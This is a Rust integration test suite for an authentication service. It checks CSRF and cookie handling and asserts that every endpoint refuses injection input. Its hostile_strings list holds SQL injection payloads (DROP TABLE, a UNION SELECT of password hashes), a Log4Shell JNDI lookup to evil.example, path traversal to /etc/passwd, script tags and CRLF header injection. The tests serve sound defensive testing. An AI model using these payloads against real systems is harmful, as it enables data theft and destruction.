        for set_cookie in reply.headers.get_all("set-cookie") {
            let set_cookie = set_cookie.to_str().unwrap_or_default();
            assert!(!set_cookie.contains("evil"), "{name}: {set_cookie}");
            assert!(!set_cookie.contains("planted"), "{name}: {set_cookie}");
        }
    }

    // Cookie-only logout: the same CSRF rules; the session lives.
    let logout_cases: Vec<(&str, String, Option<String>)> = vec![
        (
            "an unprefixed CSRF cookie matching the header",
            format!("{REFRESH}={}; tessera_csrf=planted", a.refresh),
            Some("planted".to_owned()),
        ),
        (
            "another session's CSRF pair",
            format!("{REFRESH}={}; {CSRF}={}", a.refresh, b.csrf),
            Some(a.csrf.clone()),
        ),
        (
            "no CSRF header",
            format!("{REFRESH}={}; {CSRF}={}", a.refresh, a.csrf),
            None,
        ),
    ];
    for (name, cookies, csrf) in &logout_cases {
        let reply = app
            .send(cookie_request(
                &app,
                Method::POST,
                "/v1/auth/logout",
                cookies,
                csrf.as_deref(),
                &own,
            ))
            .await;
        assert_eq!(reply.status, StatusCode::FORBIDDEN, "{name}: {reply:?}");
        reply.assert_problem(403, "csrf_failed");
    }

    // The access cookie: read only under its prefixed name, and only if it is a JWT.
    // The control: alone, it works.
    let only_access = format!("{ACCESS}={}", a.access);
    let reply = app
        .send(cookie_request(
            &app,
            Method::GET,
            "/v1/auth/me",
            &only_access,
            None,
            &own,
        ))
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{reply:?}");
    let access_cases: Vec<AccessCookieCase<'_>> = vec![
        (
            "a garbage access cookie before the real one",
            Method::GET,
            "/v1/auth/me",
            format!("{ACCESS}=a.b.c; {ACCESS}={}", a.access),
            None,
            401,
            "unauthorized",
        ),
        (
            "CRLF percent-encoded into the access cookie",
            Method::GET,
            "/v1/auth/me",
            format!("{ACCESS}={}%0D%0AX-Injected:%201", a.access),
            None,
            401,
            "unauthorized",
        ),
        (
            "an unprefixed access cookie",
            Method::GET,
            "/v1/auth/me",
            format!("tessera_access={}", a.access),
            None,
            401,
            "unauthorized",
        ),
        (
            "a refresh token in the access cookie",
            Method::GET,
            "/v1/auth/verify",
            format!("{ACCESS}={}", a.refresh),
            None,
            401,
            "unauthorized",
        ),
        (
            "a 16 KiB access cookie",
            Method::GET,
            "/v1/auth/verify",
            format!("{ACCESS}={big}.{big}.{big}"),
            None,
            401,
            "unauthorized",
        ),
        (
            "the access cookie with an unprefixed CSRF pair, for a state change",
            Method::POST,
            "/v1/auth/logout-all",
            format!("{ACCESS}={}; tessera_csrf=planted", a.access),
            Some("planted".to_owned()),
            403,
            "csrf_failed",
        ),
        (
            "the access cookie with another session's CSRF cookie and no header",
            Method::POST,
            "/v1/auth/logout-all",
            format!("{ACCESS}={}; {CSRF}={}", a.access, b.csrf),
            None,
            403,
            "csrf_failed",
        ),
    ];
    for (name, method, path, cookies, csrf, status, code) in &access_cases {
        let reply = app
            .send(cookie_request(
                &app,
                method.clone(),
                path,
                cookies,
                csrf.as_deref(),
                &own,
            ))
            .await;
        assert!(!reply.status.is_server_error(), "{name}: a 5xx: {reply:?}");
        assert_eq!(reply.status.as_u16(), *status, "{name}: {reply:?}");
        reply.assert_problem(*status, code);
    }
    // The `Authorization` header wins over the access cookie, garbage or not.
    let reply = app
        .send(
            cookie_request(
                &app,
                Method::GET,
                "/v1/auth/me",
                &format!("{ACCESS}={}", a.access),
                None,
                &own,
            )
            .header(AUTHORIZATION, "Bearer a.b.c"),
        )
        .await;
    reply.assert_problem(401, "unauthorized");

    // Nothing was consumed (with no grace, a consumed token would now be reuse) and
    // nothing was revoked.
    let mut sessions = Vec::new();
    for session in [&a, &b] {
        let cookies = format!("{REFRESH}={}; {CSRF}={}", session.refresh, session.csrf);
        let reply = app
            .send(cookie_request(
                &app,
                Method::POST,
                "/v1/auth/refresh",
                &cookies,
                Some(&session.csrf),
                &own,
            ))
            .await;
        assert_eq!(reply.status, StatusCode::OK, "{reply:?}");
        assert_eq!(reply.json["session_id"], session.session_id.as_str());
        sessions.push(BrowserSession {
            refresh: set_cookie_value(&reply, REFRESH),
            ..session.clone()
        });
    }
    let [a, b] = [&sessions[0], &sessions[1]];

    // By design, and pinned so that a change is deliberate:
    // - of two refresh cookies, the first is read (a browser sends the one with the
    //   longer path first: the real one, scoped to /v1/auth);
    let cookies = format!(
        "{CSRF}={}; {REFRESH}={}; {REFRESH}=garbage",
        a.csrf, a.refresh
    );
    let reply = app
        .send(cookie_request(
            &app,
            Method::POST,
            "/v1/auth/refresh",
            &cookies,
            Some(&a.csrf),
            &own,
        ))
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{reply:?}");
    // - the CSRF token is not bound to a session (double submit needs only that another
    //   site can neither read nor set it): B's refresh cookie with A's CSRF pair rotates B.
    let cookies = format!("{REFRESH}={}; {CSRF}={}", b.refresh, a.csrf);
    let reply = app
        .send(cookie_request(
            &app,
            Method::POST,
            "/v1/auth/refresh",
            &cookies,
            Some(&a.csrf),
            &own,
        ))
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{reply:?}");
    assert_eq!(reply.json["session_id"], b.session_id.as_str());
}

/// A new user logged in by cookie transport from the service's own page.
async fn browser_login(app: &TestApp) -> BrowserSession {
    let email = app.new_user().await;
    let reply = app
        .send(
            app.client
                .post(app.url("/v1/auth/login"))
                .header(ORIGIN, &app.address)
                .json(&json!({ "email": email, "password": PASSWORD, "transport": "cookie" })),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{reply:?}");
    BrowserSession {
        refresh: set_cookie_value(&reply, REFRESH),
        csrf: set_cookie_value(&reply, CSRF),
        access: set_cookie_value(&reply, ACCESS),
        session_id: reply.json["session_id"]
            .as_str()
            .expect("a session id")
            .to_owned(),
    }
}

fn set_cookie_value(reply: &Reply, name: &str) -> String {
    reply
        .headers
        .get_all("set-cookie")
        .iter()
        .filter_map(|value| value.to_str().ok())
        .filter_map(|value| value.split(';').next()?.split_once('='))
        .find(|(cookie, _)| *cookie == name)
        .map(|(_, value)| value.to_owned())
        .unwrap_or_else(|| panic!("no {name} cookie set: {reply:?}"))
}

/// A request as a page of `origin` sends it. A NUL in `cookies` splits it into two
/// `Cookie` header lines (HTTP/2 style).
fn cookie_request(
    app: &TestApp,
    method: Method,
    path: &str,
    cookies: &str,
    csrf: Option<&str>,
    origin: &str,
) -> reqwest::RequestBuilder {
    let mut request = app
        .client
        .request(method, app.url(path))
        .header(ORIGIN, origin);
    for line in cookies.split('\u{0}') {
        request = request.header(COOKIE, line);
    }
    if let Some(csrf) = csrf {
        request = request.header("x-csrf-token", csrf);
    }
    request
}

// ---------------------------------------------------------------------------------
// SQL and JSON payloads

/// (parameter, the form's pairs, the OAuth `error` it must get).
type FormCase<'a> = (&'a str, Vec<(&'a str, &'a str)>, &'a str);

/// (path, bearer token, the body's fields with valid values).
type JsonEndpoint<'a> = (&'a str, Option<&'a str>, Vec<(&'a str, Value)>);

/// `orders-api`, as in `introspection.rs`: the resource server allowed to introspect.
const CLIENT_ID: &str = "orders-api";
const CLIENT_SECRET: &str = "resource-server-secret-for-tests";
const CLIENT_SECRET_HASH: &str = "$argon2id$v=19$m=19456,t=2,p=1$Bg0xM3czuGFmaTGBQlquXw$3lEpKTAwf/UHUIGvvWrWbAEpAiIOPlYFuwlJm5f/3CQ";

/// Strings aimed at SQL, NoSQL and text handling. None holds an `@`, so none is an
/// e-mail address; several are valid passwords (8 to 128 characters).
fn hostile_strings() -> Vec<String> {
    let strings: Vec<String> = [
        "' OR '1'='1",
        "' OR 1=1 --",
        "\"; DROP TABLE users; --",
        "'; DROP TABLE sessions; --",
        "admin'--",
        "1' UNION SELECT password_hash FROM users --",
        "'); SELECT pg_sleep(10); --",
        "%' AND 1=0 UNION SELECT NULL --",
        "%",
        "{\"$ne\":null}",
        "{\"$gt\":\"\"}",
        "[\"a\",\"b\"]",
        "null",
        "true",
        "12345678",
        "a\u{0}b\u{0}c\u{0}d\u{0}",
        "\u{0}",
        "\u{202E}gnp.exe\u{202D} rtl override",
        "\u{FEFF}\u{200B}\u{200D} zero width",
        "\u{C0}\u{AF}\u{E0}\u{80}\u{AF} overlong sequences as code points",
        "\u{1D552}\u{1D555}\u{1D55E}\u{1D55A}\u{1D55F} \u{1F511}",
        "../../../../etc/passwd",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "\r\nSet-Cookie: evil=1",
        "",
        " ",
    ]
    .into_iter()
    .map(str::to_owned)
    .chain(["x".repeat(128), "x".repeat(129), "x".repeat(10_000)])
    .collect();
    assert!(strings.iter().all(|text| !text.contains('@')));
    strings
}

/// JSON values that are not strings, as text: each must be refused where a string is
/// expected. Deep nesting aims at the parser's stack.
/// The hostile strings sent where each request costs an Argon2 hash (passwords, the
/// introspection client's secret check): a few, each a valid password.
fn hashed_strings() -> Vec<String> {
    [
        "' OR '1'='1",
        "{\"$ne\":null}",
        "a\u{0}b\u{0}c\u{0}d\u{0}",
        "\u{202E}gnp.exe\u{202D} rtl override",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect()
}

fn hostile_non_strings() -> Vec<(&'static str, String)> {
    vec![
        ("an operator object", r#"{"$ne":null}"#.to_owned()),
        ("another operator object", r#"{"$gt":""}"#.to_owned()),
        ("an array", r#"["' OR '1'='1"]"#.to_owned()),
        (
            "nested objects and arrays",
            r#"{"a":[{"b":[{"c":{}}]}]}"#.to_owned(),
        ),
        ("a number", "1".to_owned()),
        ("a number out of range", "1e999".to_owned()),
        ("a negative zero", "-0".to_owned()),
        ("true", "true".to_owned()),
        ("false", "false".to_owned()),
        ("null", "null".to_owned()),
        (
            "arrays 10 000 deep",
            format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)),
        ),
        (
            "objects 5 000 deep",
            format!("{}1{}", r#"{"a":"#.repeat(5000), "}".repeat(5000)),
        ),
    ]
}

fn is_valid_password(text: &str) -> bool {
    (8..=128).contains(&text.chars().count())
}

/// RFC 6749 §3.3: space-separated tokens of printable ASCII without `"` and `\`; and
/// at most 1 KiB, the server's own bound.
fn is_scope(text: &str) -> bool {
    text.len() <= 1024
        && text.split(' ').all(|part| {
            !part.is_empty()
                && part
                    .bytes()
                    .all(|b| matches!(b, 0x21 | 0x23..=0x5B | 0x5D..=0x7E))
        })
}

/// A JSON endpoint's body with one field replaced by `payload` (JSON text).
fn json_body(fields: &[(&str, Value)], field: &str, payload: &str) -> String {
    let members: Vec<String> = fields
        .iter()
        .map(|(name, value)| {
            let value = if *name == field {
                payload.to_owned()
            } else {
                value.to_string()
            };
            format!("{}:{value}", json!(name))
        })
        .collect();
    format!("{{{}}}", members.join(","))
}

fn form(pairs: &[(&str, &str)]) -> String {
    pairs
        .iter()
        .map(|(key, value)| format!("{}={}", percent_encode(key), percent_encode(value)))
        .collect::<Vec<_>>()
        .join("&")
}

/// `Basic base64(urlencode(id):urlencode(secret))` (RFC 6749 §2.3.1).
fn basic(id: &str, secret: &str) -> String {
    format!(
        "Basic {}",
        standard_base64(format!("{}:{}", percent_encode(id), percent_encode(secret)).as_bytes())
    )
}

/// Asserts an RFC 6749 §5.2 error answer: exactly `{error, error_description}`.
#[track_caller]
fn assert_oauth_error(reply: &Reply, status: u16, error: &str, what: &str) {
    assert!(!reply.status.is_server_error(), "{what}: a 5xx: {reply:?}");
    assert_eq!(reply.status.as_u16(), status, "{what}: {reply:?}");
    assert_eq!(
        reply.content_type(),
        "application/json",
        "{what}: {reply:?}"
    );
    let body = reply
        .json
        .as_object()
        .unwrap_or_else(|| panic!("{what}: not a JSON object: {reply:?}"));
    assert_eq!(body.len(), 2, "{what}: {}", reply.text);
    assert_eq!(body["error"], error, "{what}: {}", reply.text);
    assert!(
        body["error_description"].is_string(),
        "{what}: {}",
        reply.text
    );
}

/// Asserts a problem answer, naming the case on failure.
#[track_caller]
fn assert_refused(reply: &Reply, status: u16, code: &str, what: &str) {
    assert!(!reply.status.is_server_error(), "{what}: a 5xx: {reply:?}");
    assert_eq!(reply.status.as_u16(), status, "{what}: {reply:?}");
    reply.assert_problem(status, code);
}

async fn post_body(
    app: &TestApp,
    path: &str,
    bearer: Option<&str>,
    content_type: &str,
    body: impl Into<reqwest::Body>,
) -> Reply {
    let mut request = app
        .client
        .post(app.url(path))
        .header("content-type", content_type)
        .body(body);
    if let Some(token) = bearer {
        request = request.bearer_auth(token);
    }
    app.send(request).await
}

async fn sql_and_json_payloads_in_every_field_are_refused_and_the_database_stays_intact(
    backend: Backend,
) {
    let clients = format!("{CLIENT_ID}:{CLIENT_SECRET_HASH}");
    let Some(app) = spawn_app(
        backend,
        &[("TESSERA_INTROSPECTION_CLIENTS", clients.as_str())],
    )
    .await
    else {
        return;
    };
    let email = app.new_user().await;
    let pair = app.login(&email, PASSWORD).await;
    let admin_email = app.new_admin().await;
    let admin = app.login(&admin_email, PASSWORD).await;
    const JSON: &str = "application/json";
    const FORM: &str = "application/x-www-form-urlencoded";

    let strings = hostile_strings();
    let hashed = hashed_strings();
    assert!(
        hashed
            .iter()
            .all(|text| strings.contains(text) && is_valid_password(text))
    );
    for text in &strings {
        let payload = json!(text).to_string();
        let what = |endpoint: &str| {
            format!(
                "{endpoint} with {:?}",
                text.chars().take(60).collect::<String>()
            )
        };
        let valid_password = is_valid_password(text);
        // Where Argon2 runs, only the few `hashed_strings` are tried.
        let hash_it = hashed.contains(text);

        // POST /v1/auth/register
        let fields = [
            ("email", json!(unique_email())),
            ("password", json!(PASSWORD)),
        ];
        let reply = post_body(
            &app,
            "/v1/auth/register",
            None,
            JSON,
            json_body(&fields, "email", &payload),
        )
        .await;
        assert_refused(&reply, 400, "validation_failed", &what("register email"));
        if hash_it || !valid_password {
            let fresh = unique_email();
            let fields = [("email", json!(fresh)), ("password", json!(PASSWORD))];
            let reply = post_body(
                &app,
                "/v1/auth/register",
                None,
                JSON,
                json_body(&fields, "password", &payload),
            )
            .await;
            if valid_password {
                // A hostile password is still a password: stored hashed, and it works.
                assert_eq!(
                    reply.status,
                    StatusCode::CREATED,
                    "{}: {reply:?}",
                    what("register password")
                );
                app.login(&fresh, text).await;
            } else {
                assert_refused(&reply, 400, "validation_failed", &what("register password"));
            }
        }

        // POST /v1/auth/login
        let fields = [
            ("email", json!(email)),
            ("password", json!(PASSWORD)),
            ("transport", json!("body")),
        ];
        let reply = post_body(
            &app,
            "/v1/auth/login",
            None,
            JSON,
            json_body(&fields, "email", &payload),
        )
        .await;
        assert_refused(&reply, 400, "validation_failed", &what("login email"));
        if hash_it || !valid_password {
            let reply = post_body(
                &app,
                "/v1/auth/login",
                None,
                JSON,
                json_body(&fields, "password", &payload),
            )
            .await;
            if valid_password {
                assert_refused(&reply, 401, "invalid_credentials", &what("login password"));
            } else {
                assert_refused(&reply, 400, "validation_failed", &what("login password"));
            }
        }
        let reply = post_body(
            &app,
            "/v1/auth/login",
            None,
            JSON,
            json_body(&fields, "transport", &payload),
        )
        .await;
        assert_refused(&reply, 400, "validation_failed", &what("login transport"));

        // POST /v1/auth/refresh
        let reply = post_body(
            &app,
            "/v1/auth/refresh",
            None,
            JSON,
            json_body(&[("refresh_token", json!(""))], "refresh_token", &payload),
        )
        .await;
        assert_refused(
            &reply,
            401,
            "refresh_token_invalid",
            &what("refresh refresh_token"),
        );

        // POST /v1/auth/logout and the other bearer endpoints: the payload as the token.
        if let Ok(value) = HeaderValue::from_str(&format!("Bearer {text}")) {
            for (method, path) in [
                (Method::POST, "/v1/auth/logout"),
                (Method::POST, "/v1/auth/logout-all"),
                (Method::GET, "/v1/auth/sessions"),
            ] {
                let reply = app
                    .send(
                        app.client
                            .request(method, app.url(path))
                            .header(AUTHORIZATION, value.clone()),
                    )
                    .await;
                assert_refused(&reply, 401, "unauthorized", &what(path));
            }
        }

        // POST /v1/auth/password: nothing changes either way.
        let fields = [
            ("current_password", json!("not the password")),
            ("new_password", json!("a new password 1")),
        ];
        if hash_it || !valid_password {
            let reply = post_body(
                &app,
                "/v1/auth/password",
                Some(&pair.access_token),
                JSON,
                json_body(&fields, "current_password", &payload),
            )
            .await;
            assert_refused(
                &reply,
                401,
                "invalid_credentials",
                &what("password current_password"),
            );
            let reply = post_body(
                &app,
                "/v1/auth/password",
                Some(&pair.access_token),
                JSON,
                json_body(&fields, "new_password", &payload),
            )
            .await;
            if valid_password {
                assert_refused(
                    &reply,
                    401,
                    "invalid_credentials",
                    &what("password new_password"),
                );
            } else {
                assert_refused(
                    &reply,
                    400,
                    "validation_failed",
                    &what("password new_password"),
                );
            }
        }

        // POST /oauth/token, every parameter.
        let garbage_refresh = [
            ("grant_type", "refresh_token"),
            ("refresh_token", "garbage"),
        ];
        let token_cases: [FormCase<'_>; 6] = [
            (
                "grant_type",
                vec![("grant_type", text.as_str())],
                if text.is_empty() {
                    "invalid_request"
                } else {
                    "unsupported_grant_type"
                },
            ),
            (
                "username",
                vec![
                    ("grant_type", "password"),
                    ("username", text),
                    ("password", PASSWORD),
                ],
                if text.is_empty() {
                    "invalid_request"
                } else {
                    "invalid_grant"
                },
            ),
            (
                "password",
                vec![
                    ("grant_type", "password"),
                    ("username", &email),
                    ("password", text),
                ],
                if text.is_empty() {
                    "invalid_request"
                } else {
                    "invalid_grant"
                },
            ),
            (
                "refresh_token",
                vec![("grant_type", "refresh_token"), ("refresh_token", text)],
                if text.is_empty() {
                    "invalid_request"
                } else {
                    "invalid_grant"
                },
            ),
            (
                "scope",
                [garbage_refresh.as_slice(), &[("scope", text.as_str())]].concat(),
                if text.is_empty() || is_scope(text) {
                    "invalid_grant"
                } else {
                    "invalid_scope"
                },
            ),
            (
                "client_id",
                [garbage_refresh.as_slice(), &[("client_id", text.as_str())]].concat(),
                "invalid_grant",
            ),
        ];
        for (parameter, pairs, error) in &token_cases {
            if *parameter == "password" && valid_password && !hash_it {
                continue;
            }
            let reply = post_body(&app, "/oauth/token", None, FORM, form(pairs)).await;
            assert_oauth_error(
                &reply,
                400,
                error,
                &what(&format!("oauth/token {parameter}")),
            );
        }

        // POST /oauth/revoke: an unknown token is 200 (RFC 7009 §2.2), empty is invalid.
        for (parameter, pairs) in [
            ("token", vec![("token", text.as_str())]),
            (
                "token_type_hint",
                vec![("token", "garbage"), ("token_type_hint", text.as_str())],
            ),
        ] {
            let reply = post_body(&app, "/oauth/revoke", None, FORM, form(&pairs)).await;
            if parameter == "token" && text.is_empty() {
                assert_oauth_error(&reply, 400, "invalid_request", &what("oauth/revoke token"));
            } else {
                assert_eq!(
                    reply.status,
                    StatusCode::OK,
                    "{}: {reply:?}",
                    what(&format!("oauth/revoke {parameter}"))
                );
                assert!(reply.text.is_empty(), "{reply:?}");
            }
        }

        // POST /oauth/introspect: garbage is inactive; a hostile client id is refused.
        // Each request checks the client's secret with Argon2.
        if text.is_empty() || hash_it {
            let reply = app
                .send(
                    app.client
                        .post(app.url("/oauth/introspect"))
                        .header("content-type", FORM)
                        .header(AUTHORIZATION, basic(CLIENT_ID, CLIENT_SECRET))
                        .body(form(&[("token", text)])),
                )
                .await;
            if text.is_empty() {
                assert_oauth_error(
                    &reply,
                    400,
                    "invalid_request",
                    &what("oauth/introspect token"),
                );
            } else {
                assert_eq!(
                    reply.status,
                    StatusCode::OK,
                    "{}: {reply:?}",
                    what("oauth/introspect token")
                );
                assert_eq!(
                    reply.json,
                    json!({ "active": false }),
                    "{}",
                    what("oauth/introspect token")
                );
            }
            let reply = app
                .send(
                    app.client
                        .post(app.url("/oauth/introspect"))
                        .header("content-type", FORM)
                        .header(AUTHORIZATION, basic(text, CLIENT_SECRET))
                        .body(form(&[("token", &pair.access_token)])),
                )
                .await;
            assert_oauth_error(
                &reply,
                401,
                "invalid_client",
                &what("oauth/introspect client id"),
            );
        }

        // GET /v1/admin/users?email=
        let reply = app.admin_find_user(&admin.access_token, text).await;
        assert_refused(&reply, 400, "validation_failed", &what("admin email"));

        // DELETE /v1/auth/sessions/{id}: a malformed id names no session.
        if !text.is_empty() {
            let reply = app
                .revoke_session(&pair.access_token, &percent_encode(text))
                .await;
            assert_refused(&reply, 404, "not_found", &what("revoke session id"));
        }
    }

    // Values of other JSON types, in every field of every JSON endpoint.
    let json_fields: [JsonEndpoint<'_>; 4] = [
        (
            "/v1/auth/register",
            None,
            vec![
                ("email", json!(unique_email())),
                ("password", json!(PASSWORD)),
            ],
        ),
        (
            "/v1/auth/login",
            None,
            vec![
                ("email", json!(email)),
                ("password", json!(PASSWORD)),
                ("transport", json!("body")),
            ],
        ),
        (
            "/v1/auth/refresh",
            None,
            vec![("refresh_token", json!(pair.refresh_token))],
        ),
        (
            "/v1/auth/password",
            Some(pair.access_token.as_str()),
            vec![
                ("current_password", json!("not the password")),
                ("new_password", json!("a new password 1")),
            ],
        ),
    ];
    for (path, bearer, fields) in &json_fields {
        for (field, _) in fields {
            for (kind, payload) in hostile_non_strings() {
                let what = format!("{path} {field} as {kind}");
                let reply = post_body(
                    &app,
                    path,
                    *bearer,
                    JSON,
                    json_body(fields, field, &payload),
                )
                .await;
                if *path == "/v1/auth/refresh" && kind == "null" {
                    // An absent token, and no cookie either.
                    assert_refused(&reply, 401, "refresh_token_invalid", &what);
                } else {
                    assert_refused(&reply, 400, "validation_failed", &what);
                }
            }
            // Invalid UTF-8 (an overlong `/`) and a raw control character in the string:
            // not JSON at all. A marker byte in the body marks where they go.
            for (kind, raw) in [
                ("overlong UTF-8", b"\"\xC0\xAF\"".as_slice()),
                ("a raw NUL", b"\"a\x00b\"".as_slice()),
            ] {
                let body = json_body(fields, field, "\u{1}").into_bytes();
                let at = body.iter().position(|b| *b == 1).expect("the marker");
                let body = [&body[..at], raw, &body[at + 1..]].concat();
                let reply = post_body(&app, path, *bearer, JSON, body).await;
                assert_refused(
                    &reply,
                    400,
                    "validation_failed",
                    &format!("{path} {field} with {kind}"),
                );
            }
        }
    }
    // Overlong UTF-8 in the query and the path. The query is decoded lossily (each bad
    // byte a U+FFFD), which leaves an address no one has, or no address at all.
    for (query, status, code) in [
        ("%C0%AF%40example.com", 404, "not_found"),
        ("%C0%AF", 400, "validation_failed"),
        ("%00%40example.com", 400, "validation_failed"),
    ] {
        let reply = app
            .send(
                app.client
                    .get(app.url(&format!("/v1/admin/users?email={query}")))
                    .bearer_auth(&admin.access_token),
            )
            .await;
        assert_refused(&reply, status, code, query);
    }
    // A repeated parameter, and one the endpoint does not know.
    for query in [
        "email=a%40example.com&email=b%40example.com",
        "email=a%40example.com&role=admin",
        "",
    ] {
        let reply = app
            .send(
                app.client
                    .get(app.url(&format!("/v1/admin/users?{query}")))
                    .bearer_auth(&admin.access_token),
            )
            .await;
        assert_refused(&reply, 400, "validation_failed", query);
    }
    let reply = app.revoke_session(&pair.access_token, "%C0%AF").await;
    assert_refused(
        &reply,
        404,
        "not_found",
        "revoke session id with overlong UTF-8",
    );

    // Addresses that are valid but hostile: stored and found as the text they are, and
    // never matching anyone else's.
    let hostile_email = "o'brien'or'1'='1@example.com";
    assert_eq!(
        app.register(hostile_email, PASSWORD).await.status,
        StatusCode::CREATED
    );
    app.login(hostile_email, PASSWORD).await;
    let found = app
        .admin_find_user(&admin.access_token, hostile_email)
        .await;
    assert_eq!(found.status, StatusCode::OK, "{found:?}");
    assert_eq!(found.json["email"], hostile_email);
    for never_registered in [
        "x'or'1'='1@example.com",
        "x'||'1@example.com",
        "%@example.com",
        "_@example.com",
        "*@example.com",
        "o'brien'or'1'='1@example.co%",
    ] {
        let reply = app
            .admin_find_user(&admin.access_token, never_registered)
            .await;
        assert_refused(&reply, 404, "not_found", never_registered);
        let reply = app.try_login(never_registered, PASSWORD).await;
        assert_refused(&reply, 401, "invalid_credentials", never_registered);
    }

    // The database is intact: the first user logs in with the first password, the first
    // session lives and rotates, the lookup finds the user, a new registration works,
    // and no payload made a session.
    let again = app.login(&email, PASSWORD).await;
    assert_eq!(app.me(&pair.access_token).await.status, StatusCode::OK);
    app.refresh(&pair.refresh_token).await.token_pair();
    let found = app.admin_find_user(&admin.access_token, &email).await;
    assert_eq!(found.status, StatusCode::OK, "{found:?}");
    assert_eq!(found.json["email"], email.to_lowercase());
    assert_eq!(app.sessions(&again.access_token).await.len(), 2);
    app.new_session().await;
}

// ---------------------------------------------------------------------------------
// Helpers

/// The DER prefix of an Ed25519 SubjectPublicKeyInfo (RFC 8410 §4), before the 32 bytes.
const ED25519_SPKI_PREFIX: [u8; 12] = [
    0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00,
];

/// Starts the app on a new database and keeps a pool on that database, to read what
/// only the server knows (its private signing key).
async fn spawn_with_database(
    backend: Backend,
    overrides: &[(&str, &str)],
) -> Option<(TestApp, Database)> {
    let database = test_database(backend).await?;
    let pool = database.database.clone();
    let url = database.url.clone();
    Some((spawn_app_on(database, &url, overrides).await, pool))
}

/// The server's private key of `kid`, as `jsonwebtoken` signs with it.
async fn server_signing_key(database: &Database, kid: &str) -> EncodingKey {
    let keys = DieselSigningKeyRepository::new(database.clone())
        .list()
        .await
        .expect("the signing keys");
    let key = keys
        .iter()
        .find(|key| key.kid == kid)
        .unwrap_or_else(|| panic!("no stored key {kid}"));
    assert_eq!(key.algorithm, SigningAlgorithm::EdDsa);
    EncodingKey::from_ed_der(key.private_key.expose())
}

fn b64_json(value: &Value) -> String {
    base64url_encode(value.to_string().as_bytes())
}

/// A compact JWS of `header` and `claims` signed with `key` as `alg`, whatever the
/// header says.
fn jws(header: &Value, claims: &Value, key: &EncodingKey, alg: Algorithm) -> String {
    jws_raw(&b64_json(header), &b64_json(claims), key, alg)
}

fn jws_raw(header: &str, payload: &str, key: &EncodingKey, alg: Algorithm) -> String {
    let input = format!("{header}.{payload}");
    let signature = jsonwebtoken::crypto::sign(input.as_bytes(), key, alg).expect("a signature");
    format!("{input}.{signature}")
}

fn swap_case(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_ascii_lowercase() {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

fn remove(object: &mut Value, key: &str) {
    object.as_object_mut().expect("a JSON object").remove(key);
}

/// `token` with the character at `index` replaced by another of the same alphabet.
fn flip(token: &str, index: usize) -> String {
    let mut bytes = token.as_bytes().to_vec();
    bytes[index] = if bytes[index] == b'A' { b'B' } else { b'A' };
    String::from_utf8(bytes).unwrap()
}

/// Padded base64 in the standard alphabet (RFC 4648 §4).
fn standard_base64(bytes: &[u8]) -> String {
    let mut text = base64url_encode(bytes).replace('-', "+").replace('_', "/");
    while !text.len().is_multiple_of(4) {
        text.push('=');
    }
    text
}

/// The server reads the same clock.
#[allow(
    clippy::disallowed_methods,
    reason = "forged tokens are timed against the server's real clock"
)]
fn now_seconds() -> i64 {
    chrono::Utc::now().timestamp()
}

/// A fixed-seed generator: "random" bytes that are the same on every run.
struct Lcg(u64);

impl Lcg {
    fn bytes(&mut self, len: usize) -> Vec<u8> {
        (0..len)
            .map(|_| {
                self.0 = self
                    .0
                    .wrapping_mul(6_364_136_223_846_793_005)
                    .wrapping_add(1_442_695_040_888_963_407);
                (self.0 >> 56) as u8
            })
            .collect()
    }
}
